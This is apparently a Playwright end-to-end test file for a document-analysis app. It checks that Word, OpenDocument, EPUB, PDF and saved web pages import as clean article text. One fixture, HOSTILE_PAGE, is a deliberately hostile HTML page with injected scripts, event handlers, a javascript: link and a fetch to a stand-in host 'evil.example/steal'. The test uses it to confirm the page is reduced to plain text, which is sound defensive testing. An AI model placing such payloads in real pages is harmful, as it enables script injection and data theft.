// Articles in the formats analysts have, written by real programs
// (LibreOffice converts our flat ODF sources at test time; Chromium saved
// the web pages), added through "Add articles…": each article's title,
// first and last paragraphs and attributes, as the analyst sees them and
// as the session folder holds them.
import type { Page } from '@playwright/test'
import { copyFile, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { expect, test } from './fixtures'
import { ArticlesPage } from './pages/articles-page'
import { readIndex, sessionFolder } from './pages/data-folder'
import { SessionPage } from './pages/session-page'
import { officeFixture } from '../test-support/office-fixtures'
import { CULTURE } from '../src/main/import/formats/fixtures/office/culture-blocks'
import {
  articleBlocks,
  articleFodt,
  CULTURE_ARTICLE,
  scannedFodt,
} from '../test-support/pdf-fixtures'

import { savedWebPages } from '../test-support/web-pages'

/** A page that tries everything a web page can: scripts, handlers, frames, remote and inline images, a javascript: link. */
const HOSTILE_TEXT = [
  'Hostile page',
  'The first paragraph of the article is long enough to be read as one, with a link that is not followed.',
  'The second paragraph says more about the company’s culture, its growth, its secrecy and its safety.',
]
const HOSTILE_PAGE = `<!doctype html><html lang="en"><head><title>Hostile page</title>
<script>document.write('<p>INJECTED</p>'); fetch('https://evil.example/steal')</script>
<link rel="stylesheet" href="https://evil.example/style.css"></head>
<body onload="alert('onload')"><iframe src="https://evil.example/frame.html"></iframe>
<article><h1>Hostile page</h1>
<p onclick="alert('click')">${HOSTILE_TEXT[1]!.replace('a link', '<a href="javascript:alert(1)">a link</a>')}</p>
<img src="https://evil.example/pixel.png" onerror="alert('img')"><img src="data:image/png;base64,${'iVBORw0KGgo'.repeat(20_000)}">
<p>${HOSTILE_TEXT[2]}</p><form action="https://evil.example/post"><input name="q"></form></article>
</body></html>`

/** LibreOffice's PDF export with a password to open the file. */
const PDF_WITH_PASSWORD =
  'pdf:writer_pdf_Export:{"EncryptFile":{"type":"boolean","value":"true"},"DocumentOpenPassword":{"type":"string","value":"secret"}}'

const OFFICE = resolve('src/main/import/formats/fixtures/office')

const folders: string[] = []
test.afterEach(async () => {
  for (const dir of folders.splice(0)) await rm(dir, { recursive: true, force: true })
})

/** A converted fixture under the name an analyst's file would have. */
async function named(path: string, name: string): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'gloss-e2e-import-'))
  folders.push(dir)
  await copyFile(path, join(dir, name))
  return join(dir, name)
}

async function culture(to: 'docx' | 'odt' | 'epub') {
  const source = await readFile(join(OFFICE, 'culture.fodt'), 'utf8')
  return named(await officeFixture({ name: 'culture.fodt', source, to }), `culture.${to}`)
}

/** The article's paragraphs as shown. */
const paragraphs = (page: Page) =>
  page
    .locator('.article p')
    .evaluateAll((els) => els.map((e) => (e.textContent ?? '').trim()).filter(Boolean))

test('Word, OpenDocument and EPUB copies of one article read as the same text', async ({ app }) => {
  const s = new SessionPage(app.page)
  const a = new ArticlesPage(app.page)
  const files = [await culture('docx'), await culture('odt'), await culture('epub')]
  await s.openSample()
  await app.answerNextDialog(files)
  await app.page.keyboard.press('Control+Shift+O')

  // The same normalized text whatever the format: the ODT and EPUB are the DOCX's duplicates.
  await expect(a.report).toBeVisible()
  await expect(a.report).toContainText('1 article added to the session.')
  const title = 'Chez Ardoise, la culture d’entreprise se réinvente'
  const duplicates = a.report.getByRole('region', { name: 'Already in the session (2)' })
  await expect(duplicates).toContainText(`culture.odt — same text as “${title}”`)
  await expect(duplicates).toContainText(`culture.epub — same text as “${title}”`)
  await app.page.keyboard.press('Escape')

  await a.row(title).click()
  await expect(app.page.getByRole('heading', { level: 1 })).toHaveText(title)
  await expect.poll(() => paragraphs(app.page)).toEqual(CULTURE)

  await s.waitSaved()
  const index = await readIndex(await sessionFolder(app.dataDir))
  const entry = index.articles.find((x) => x.title === title)!
  expect(entry.sourceFileName).toBe('culture.docx')
  expect(entry.source?.format).toBe('docx')
  expect(entry.attributes).toEqual({ author: 'Claire Lefèvre', language: 'fr-FR' })

  await app.page.getByRole('button', { name: 'Details', exact: true }).click()
  const details = app.page.getByRole('dialog', { name: 'Article details' })
  await expect(details).toContainText('File: culture.docx · Word document')
  await expect(details.getByLabel('Author', { exact: true })).toHaveValue('Claire Lefèvre')
  await expect(details.getByLabel('Language', { exact: true })).toHaveValue('fr-FR')
})

test('a PDF article is read in paragraphs; a scan and a password-protected PDF are reported by name', async ({
  app,
}) => {
  const s = new SessionPage(app.page)
  const a = new ArticlesPage(app.page)
  const source = articleFodt(CULTURE_ARTICLE)
  const pdf = await named(
    await officeFixture({ name: 'culture.fodt', source, to: 'pdf' }),
    'verdane.pdf',
  )
  const locked = await named(
    await officeFixture({ name: 'culture.fodt', source, to: PDF_WITH_PASSWORD }),
    'verdane-locked.pdf',
  )
  const scan = await named(
    await officeFixture({ name: 'scan.fodt', source: scannedFodt(), to: 'pdf' }),
    'scan.pdf',
  )
  await s.openSample()
  await app.answerNextDialog([pdf, locked, scan])
  await app.page.keyboard.press('Control+Shift+O')

  await expect(a.report).toBeVisible()
  await expect(a.report).toContainText('1 article added to the session.')
  const notAdded = a.report.getByRole('region', { name: 'Not added (2)' })
  await expect(notAdded).toContainText('verdane-locked.pdf — the file is protected by a password')
  await expect(notAdded).toContainText(
    'scan.pdf — no text found; Gloss does not read scanned pages (OCR)',
  )
  await app.page.keyboard.press('Escape')

  const blocks = articleBlocks(CULTURE_ARTICLE)
  await a.row(blocks[0]!).click()
  await expect(app.page.getByRole('heading', { level: 1 })).toHaveText(blocks[0]!)
  await expect.poll(() => paragraphs(app.page)).toEqual(blocks)
  await s.waitSaved()
  const index = await readIndex(await sessionFolder(app.dataDir))
  const entry = index.articles.find((x) => x.sourceFileName === 'verdane.pdf')!
  expect(entry.source?.format).toBe('pdf')
  expect(entry.attributes).toEqual({ author: 'Claire Dubois', language: 'fr-FR' })
})

test('a saved news page becomes its article with author, outlet, date, link and language; a hostile page is text only', async ({
  app,
}) => {
  const s = new SessionPage(app.page)
  const a = new ArticlesPage(app.page)
  const saved = await savedWebPages()
  const dir = await mkdtemp(join(tmpdir(), 'gloss-e2e-web-'))
  folders.push(dir)
  const page = join(dir, 'Chez Nébula, la culture du secret.html')
  const archive = join(dir, 'nbs-news.mhtml')
  const hostile = join(dir, 'hostile.html')
  await writeFile(page, saved.courrier.html)
  await writeFile(archive, saved.nbs.mhtml)
  await writeFile(hostile, HOSTILE_PAGE)
  const requests: string[] = []
  app.page.on('request', (r) => {
    if (!r.url().startsWith('http://127.0.0.1')) requests.push(r.url())
  })
  const dialogs: string[] = []
  app.page.on('dialog', (d) => {
    dialogs.push(d.message())
    void d.dismiss()
  })

  await s.openSample()
  await app.answerNextDialog([page, archive, hostile])
  await app.page.keyboard.press('Control+Shift+O')
  await expect(a.panel).toBeVisible()
  await expect(a.toggle).toHaveText('4 articles')

  const title = 'Chez Nébula, la culture du secret à l’épreuve de la croissance'
  await a.row(title).click()
  await expect(app.page.getByRole('heading', { level: 1 })).toHaveText(title)
  const shown = await paragraphs(app.page)
  expect(shown).toHaveLength(10)
  expect(shown[0]).toBe(
    'La jeune pousse parisienne, passée de quarante à neuf cents salariés en trois ans, peine à concilier sa tradition de discrétion avec la transparence qu’impose sa taille.',
  )
  expect(shown.join('\n')).not.toMatch(/cookies|Abonnez-vous|commentaires/i)
  await app.page.getByRole('button', { name: 'Details', exact: true }).click()
  const details = app.page.getByRole('dialog', { name: 'Article details' })
  await expect(details).toContainText('web page')
  await expect(details.getByLabel('Author', { exact: true })).toHaveValue('Claire Moreau')
  await expect(details.getByLabel('Outlet', { exact: true })).toHaveValue('Le Courrier du Matin')
  await expect(details.getByLabel('Published', { exact: true })).toHaveValue('2025-03-14')
  await expect(details.getByLabel('Language', { exact: true })).toHaveValue('fr')
  await app.page.screenshot({ path: test.info().outputPath('web-article-details.png') })
  await app.page.keyboard.press('Escape')

  // The hostile page: its text, and nothing of its markup, in the window.
  await a.row('Hostile page').click()
  await expect(app.page.getByRole('heading', { level: 1 })).toHaveText('Hostile page')
  // The heading that repeats the title is the title: the article is its two paragraphs.
  await expect.poll(() => paragraphs(app.page)).toEqual(HOSTILE_TEXT.slice(1))
  const inArticle = await s.article.evaluate((el) => ({
    scripts: el.querySelectorAll('script, iframe, img, a, form, style').length,
    html: el.innerHTML,
  }))
  expect(inArticle.scripts).toBe(0)
  expect(inArticle.html).not.toMatch(/onerror|onclick|javascript:/)
  expect(requests).toEqual([])
  expect(dialogs).toEqual([])

  await s.waitSaved()
  const index = await readIndex(await sessionFolder(app.dataDir))
  expect(index.articles.map((x) => x.source?.format)).toEqual([undefined, 'html', 'mhtml', 'html'])
})
